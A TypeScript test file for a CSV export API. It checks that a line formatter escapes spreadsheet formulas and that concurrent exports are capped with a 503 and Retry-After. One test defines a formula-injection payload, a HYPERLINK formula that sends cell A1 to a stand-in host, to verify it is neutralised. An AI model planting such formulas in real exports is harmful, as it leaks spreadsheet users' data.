/**
 * The CSV export's own parts: the line formatter (byte for byte csv-stringify's output with `escape_formulas`),
 * hostile cells neutralised in a real export, the bound on exports running at once (503 with Retry-After past it,
 * slots given back however an export ends), on real stores.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import pg from 'pg';
import { EXPORT_RETRY_AFTER_S, EXPORTS_AT_ONCE, ExportSlots } from '../../src/api/routes/chain-export.js';
import { csvLine, EXPORT_COLUMNS } from '../../src/api/csv.js';
import { Unavailable } from '../../src/domain/errors.js';
import { httpAnswerOf } from '../../src/http/errors.js';
import { DIALECTS } from '../helpers/db.js';
import { makeBlocks, observationsOf, publicOrder } from '../helpers/observations.js';
import { apiFixture, responseValidator, type ApiFixture } from './helpers.js';

/** A cell as the export produces them: text (any characters, separators, quotes and formula starts), a number, or none. */
const cell = fc.oneof(
  fc.string({
    unit: fc.constantFrom(
      'a',
      'Z',
      '0',
      ' ',
      ',',
      '"',
      '\n',
      '\r',
      ';',
      '\t',
      'é',
      '€',
      '=',
      '-',
      '+',
      '@',
      "'",
      '\uFF1D',
      '\uFF0B',
      '\uFF0D',
      '\uFF20',
    ),
  }),
  fc.string({ unit: 'grapheme' }),
  fc.double(),
  fc.integer(),
  fc.constant(undefined),
);

/** csv-stringify leaves a number starting with `-` alone; csvLine prefixes it like any other cell (its docstring). */
const negativeAsText = (c: string | number | undefined) => (typeof c === 'number' && String(c).startsWith('-') ? String(c) : c);

describe('csvLine', () => {
  it('writes exactly what csv-stringify writes with escape_formulas (fast-check)', () => {
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 25 }), (cells) => {
        expect(csvLine(cells)).toBe(stringify([cells.map(negativeAsText)], { escape_formulas: true }));
      }),
      { numRuns: 2000 },
    );
  });

  it('writes the header as csv-stringify does', () => {
    expect(csvLine(EXPORT_COLUMNS)).toBe(stringify([], { header: true, columns: [...EXPORT_COLUMNS], escape_formulas: true }));
  });

  it('round-trips through a CSV parser', () => {
    const cells = ['a,b', 'say "hi"', 'two\nlines', 'cr\r', '', 'plain'];
    expect(parse(csvLine(cells))).toEqual([cells]);
  });

  it("prefixes with ' every cell starting with = + - @ tab or CR, numbers included, and drops nothing", () => {
    const cells = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\uFF1D1', -5, 'a=1', ' =1', "'=1"];
    const line = csvLine(cells);
    expect(line).toBe(`'=1+1,'+1,'-1,'@SUM(A1),'\tx,"'\rx",'\uFF1D1,'-5,a=1, =1,'=1\n`);
    expect(parse(line)).toEqual([["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "'\uFF1D1", "'-5", 'a=1', ' =1', "'=1"]]);
  });
});

/** A symbol that runs as a formula in a spreadsheet if written as is (it leaks the row's cell A1). */
const HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"click")';

describe.each(DIALECTS)('export of hostile text on %s', (dialect) => {
  const blocks = makeBlocks({ count: 20, seed: 31 });
  const victim = observationsOf(blocks).find((o) => o.amount !== null)!;
  Object.assign(victim, { asset: HOSTILE, exchange: '-2+3', protocol: '+cmd', category: '@SUM(1)' });
  let f: ApiFixture;
  beforeAll(async () => {
    f = await apiFixture(dialect, blocks);
  });
  afterAll(async () => {
    await f?.close();
  });

  it("writes every formula cell with a leading ' and parses back to that text", async () => {
    const r = await f.app.inject('/api/export');
    expect(r.statusCode).toBe(200);
    expect(r.body).toContain(`,"'=HYPERLINK(""http://x.invalid/?""&A1,""click"")",`);
    const lines = r.body.split('\n');
    expect(lines.filter((l) => /(^|,)"?[=+\-@\t\r]/.test(l))).toEqual([]);
    const recs = parse(r.body, { columns: true }) as Record<string, string>[];
    const rec = recs.find((x) => x.hash === victim.hash)!;
    expect(rec).toMatchObject({
      asset: `'${HOSTILE}`,
      amount_unit: `'${HOSTILE}`,
      exchange: "'-2+3",
      protocol: "'+cmd",
      category: "'@SUM(1)",
      amount: victim.amount,
    });
    expect(recs).toHaveLength(observationsOf(blocks).length);
  });
});

describe('ExportSlots', () => {
  it('gives out at most `limit` slots, refuses with 503 and Retry-After, and releases each slot once', () => {
    const slots = new ExportSlots(2);
    const a = slots.take();
    const b = slots.take();
    expect(slots.running).toBe(2);
    let refused: unknown;
    try {
      slots.take();
    } catch (e) {
      refused = e;
    }
    expect(refused).toBeInstanceOf(Unavailable);
    expect(httpAnswerOf(refused)).toEqual({ status: 503, retryAfterSeconds: EXPORT_RETRY_AFTER_S });
    expect((refused as Error).message).toMatch(/at most 2 run at once/);
    a();
    a();
    expect(slots.running).toBe(1);
    slots.take();
    b();
    expect(slots.running).toBe(1);
  });
});

describe('export limit on postgres (queries held by a table lock)', () => {
  const blocks = makeBlocks({ count: 120, seed: 8 });
  const want = observationsOf(blocks).sort(publicOrder);
  let f: ApiFixture;
  let validate: ReturnType<typeof responseValidator>;
  let locker: pg.Client;
  /** Reads pg_stat_activity outside the locking transaction (which would see one snapshot of it). */
  let watcher: pg.Client;
  beforeAll(async () => {
    // Every export here comes from one client: the per-client budget of expensive requests is not under test.
    f = await apiFixture('postgres', blocks, { heavyPerClient: 16 });
    validate = responseValidator((await f.app.inject('/api/openapi.json')).json());
    locker = new pg.Client({ connectionString: f.db.url });
    await locker.connect();
    watcher = new pg.Client({ connectionString: f.db.url });
    await watcher.connect();
  });
  afterAll(async () => {
    await locker?.end();
    await watcher?.end();
    await f?.close();
  });

  /** Holds an exclusive lock on observations, so exports wait on their first read. */
  const lock = async () => {
    await locker.query('begin');
    await locker.query('lock table observations in access exclusive mode');
  };
  const unlock = () => locker.query('rollback');
  /** Waits until `n` queries of this database wait for the lock (so `n` exports hold a slot). */
  const waiting = async (n: number) => {
    for (let i = 0; i < 200; i++) {
      const r = await watcher.query(
        "select count(*)::int as n from pg_stat_activity where datname = current_database() and state = 'active' and wait_event_type = 'Lock'",
      );
      if (r.rows[0].n === n) return;
      await new Promise((res) => setTimeout(res, 25));
    }
    throw new Error(`never saw ${n} waiting queries`);
  };
  /** Sends GET `url` now (an inject chain is sent only once awaited). */
  const send = (url: string) => Promise.resolve(f.app.inject(url));
  const hashes = (body: string) => (parse(body, { columns: true }) as Record<string, string>[]).map((r) => r.hash);

  it(`runs ${EXPORTS_AT_ONCE} exports at once, answers the next 503 with Retry-After, then serves again`, async () => {
    await lock();
    const running = Array.from({ length: EXPORTS_AT_ONCE }, () => send('/api/export'));
    await waiting(EXPORTS_AT_ONCE);
    const refused = await f.app.inject('/api/export');
    expect(refused.statusCode).toBe(503);
    expect(refused.headers['retry-after']).toBe(String(EXPORT_RETRY_AFTER_S));
    expect(refused.headers['content-type']).toMatch(/application\/json/);
    expect(refused.json().error).toMatch(new RegExp(`too many exports in progress: at most ${EXPORTS_AT_ONCE} run at once`));
    expect(validate('/api/export', 503, refused.json())).toEqual([]);
    await unlock();
    for (const r of await Promise.all(running)) {
      expect(r.statusCode).toBe(200);
      expect(hashes(r.body)).toEqual(want.map((o) => o.hash));
    }
    // Every slot came back: as many exports as the limit run at once again.
    const again = await Promise.all(Array.from({ length: EXPORTS_AT_ONCE }, () => f.app.inject('/api/export')));
    expect(again.map((r) => r.statusCode)).toEqual(Array(EXPORTS_AT_ONCE).fill(200));
  });

  it('gives the slot back when the client leaves before the answer, and when the store fails', async () => {
    const idle = async () => {
      for (let i = 0; i < 200; i++) {
        const r = await watcher.query(
          "select count(*)::int as n from pg_stat_activity where datname = current_database() and state = 'active' and pid <> pg_backend_pid()",
        );
        if (r.rows[0].n === 0) return;
        await new Promise((res) => setTimeout(res, 25));
      }
    };
    await f.app.listen({ port: 0, host: '127.0.0.1' });
    const address = f.app.server.address() as { port: number };
    // The client leaves while its export waits for the store; the export then finds the socket closed.
    await lock();
    const gone = new AbortController();
    const left = fetch(`http://127.0.0.1:${address.port}/api/export`, { signal: gone.signal }).catch((e: Error) => e);
    await waiting(1);
    gone.abort();
    expect(await left).toBeInstanceOf(Error);
    await unlock();
    await idle();
    await new Promise((res) => setTimeout(res, 300));
    // A store failure on the first read (the waiting query is cancelled by the server).
    await lock();
    const failing = send('/api/export');
    await waiting(1);
    await watcher.query(
      "select pg_cancel_backend(pid) from pg_stat_activity where datname = current_database() and state = 'active' and wait_event_type = 'Lock'",
    );
    await unlock();
    const failed = await failing;
    expect(failed.statusCode).toBeGreaterThanOrEqual(500);
    expect(failed.json().error).toBeTruthy();
    // Both slots are free again: the limit's worth of exports run at once.
    await lock();
    const running = Array.from({ length: EXPORTS_AT_ONCE }, () => send('/api/export'));
    await waiting(EXPORTS_AT_ONCE);
    expect((await f.app.inject('/api/export')).statusCode).toBe(503);
    await unlock();
    expect((await Promise.all(running)).map((r) => r.statusCode)).toEqual(Array(EXPORTS_AT_ONCE).fill(200));
  });
});
